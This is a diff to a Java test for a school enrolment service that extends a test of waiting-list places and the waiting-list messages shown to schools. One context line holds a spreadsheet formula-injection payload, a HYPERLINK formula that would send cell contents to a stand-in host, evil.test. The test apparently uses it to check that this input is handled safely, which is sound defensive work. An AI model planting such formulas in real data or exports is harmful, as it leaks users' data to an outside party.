@@ -220,7 +220,7 @@ class EnrolmentTest {
     @Test
     void placesRunOutThenTheWaitingListTakesAFreedPlace() throws Exception {
         WorkGroupBrief group = group("Readiness 1");
-        List<SchoolSummary> fresh = freshPrimaries("882", 9);
+        List<SchoolSummary> fresh = freshPrimaries("882", 10);
         String hostile = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")";
         enrolments.apply(new Enrolments.Application(
                 group.id(),
@@ -235,7 +235,12 @@ class EnrolmentTest {
             apply(group, fresh.get(i));
         }
         long waitingId = apply(group, fresh.get(8));
+        long secondId = apply(group, fresh.get(9));
         assertThat(view(waitingId).status()).isEqualTo(EnrolmentStatus.WAITLISTED);
+        assertThat(waitingLine(fresh.get(8), waitingId))
+                .isEqualTo("Your school is number 1 of 2 on the waiting list."
+                        + " When a place comes free it goes to the first school on the list, which is emailed.");
+        assertThat(waitingLine(fresh.get(9), secondId)).startsWith("Your school is number 2 of 2");
         long accepted = HubScope.asSystem(
                         () -> applications.forSchool(fresh.get(0).urn()))
                 .get(0)
@@ -248,6 +253,10 @@ class EnrolmentTest {
                 .andExpect(redirectedUrl("/enrolment/applications/" + accepted));
         assertThat(view(accepted).status()).isEqualTo(EnrolmentStatus.WITHDRAWN);
         assertThat(view(waitingId).status()).isEqualTo(EnrolmentStatus.ACCEPTED);
+        assertThat(waitingLine(fresh.get(8), waitingId))
+                .as("a place, not a queue")
+                .isEmpty();
+        assertThat(waitingLine(fresh.get(9), secondId)).startsWith("Your school is number 1 of 1");
         assertThat(HubScope.asSystem(() -> outbox.list("head@" + fresh.get(8).urn() + ".test", PageRequest.of(0, 5)))
                         .getContent())
                 .anySatisfy(e -> assertThat(e.subject()).isEqualTo("A place in Readiness 1"));
@@ -514,6 +523,13 @@ class EnrolmentTest {
     }
 
     /** Open primary schools of a local authority that have no application yet. */
+    /** What the school's contact reads about its place on the waiting list, if anything. */
+    private String waitingLine(SchoolSummary school, long application) throws Exception {
+        return html(get("/applications/" + application).with(signedIn.asContactOf(school.urn())))
+                .select("#waiting")
+                .text();
+    }
+
     private List<SchoolSummary> freshPrimaries(String la, int count) {
         return HubScope.asSystem(() ->
                 schools
